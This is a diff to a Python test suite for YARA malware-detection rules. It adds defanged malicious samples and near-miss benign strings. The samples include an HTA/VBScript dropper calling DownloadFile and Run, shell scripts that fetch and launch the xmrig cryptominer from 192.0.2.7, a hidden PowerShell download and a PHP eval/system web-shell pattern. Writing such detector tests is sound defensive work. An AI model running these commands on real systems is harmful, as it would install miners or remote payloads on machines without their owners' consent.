@@ -158,6 +158,11 @@ SAMPLES: list[tuple[str, bytes | str]] = [
         '.Ru~n "power~shell -e aaaa", 0 : x.DownloadFi~le</script>',
     ),
     (
+        "DW-DROP-0008",
+        '<hta:appl~ication id=x><script language="VBScript">CreateObject("WScri~pt.Shell")'
+        ".Ru~n path,\t \r\n0\nx.DownloadFi~le</script>",
+    ),
+    (
         "DW-DROP-0009",
         LINK
         + "power~shell.exe -w hid~den -c iwr ht~tps://192.0.2.7/a".replace("~", "").encode(
@@ -208,6 +213,11 @@ SAMPLES: list[tuple[str, bytes | str]] = [
         "#!/bin/sh\nwg~et http://192.0.2.7/xm~rig\nch~mod +x xmrig\nno~hup ./xmrig -o"
         " strat~um+tcp://192.0.2.7:3333 &\n",
     ),
+    (
+        "DW-HARM-0005",
+        "#!/bin/sh\ncu~rl -O http://192.0.2.7/xm~rig\nch~mod 755 xmrig\n./xmrig -B -o"
+        " strat~um+tcp://192.0.2.7:3333\n",
+    ),
     ("DW-HARM-0006", "cu~rl x\npk~ill -f xm~rig\npk~ill -f kinsi~ng\nki~llall kdevtmp~fsi\n"),
     (
         "DW-HARM-0007",
@@ -241,12 +251,16 @@ SAMPLES: list[tuple[str, bytes | str]] = [
 ]
 
 CLEAN = [
-    # What honest files hold: near misses, each close to one of the rules.
+    # What honest files hold: near misses, each close to one of the rules; "~" as above.
     "To install: curl -fsSL https://example.org/install.sh | sh\n",
     "ssh alice@example.org 'bash -i'\n",
     "nc -l 4444 > file\n",
     "<?php echo htmlspecialchars($_GET['name']); ?>",
     "<?php eval('$x = 1;'); system('ls'); ?>",
+    "In PHP, never write @ev~al($_PO~ST['x']); nor sys~tem($_GE~T['cmd']);\n",
+    '<hta:appl~ication id=x><script language="VBScript">CreateObject("WScri~pt.Shell")'
+    ".Ru~n path, \x010, 10\nx.DownloadFile</script>",
+    "mshta http://example.org/\nbitsadmin /transfer j https://example.org/a.txt a.txt\n",
     "0 3 * * * root /usr/bin/apt-get -q update\n",
     "0 3 * * * curl -fsS https://example.org/ping > /dev/null\n",
     "powershell -NoProfile -ExecutionPolicy Bypass -File build.ps1\n",
@@ -256,7 +270,7 @@ CLEAN = [
     "Backups are encrypted. Do not rename the files; you need the key to decrypt them.\n",
     "echo aGVsbG8= | base64 -d\n",
     '{"scripts": {"postinstall": "node scripts/build.js"}}',
-    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq alice" >> ~/.ssh/authorized_keys\n',
+    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq alice" >> ~~/.ssh/authorized_keys\n',
     '\ufeffDim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "notepad.exe"\n',
 ]
 
@@ -287,7 +301,7 @@ def test_a_rule_finds_what_it_is_for(
 
 @pytest.mark.parametrize("text", CLEAN)
 def test_what_honest_files_hold_is_left_alone(text: str, engine: yara.YaraEngine) -> None:
-    assert engine.scan(text.encode()) == []
+    assert engine.scan(_bytes(text)) == []
 
 
 def _sources() -> str:
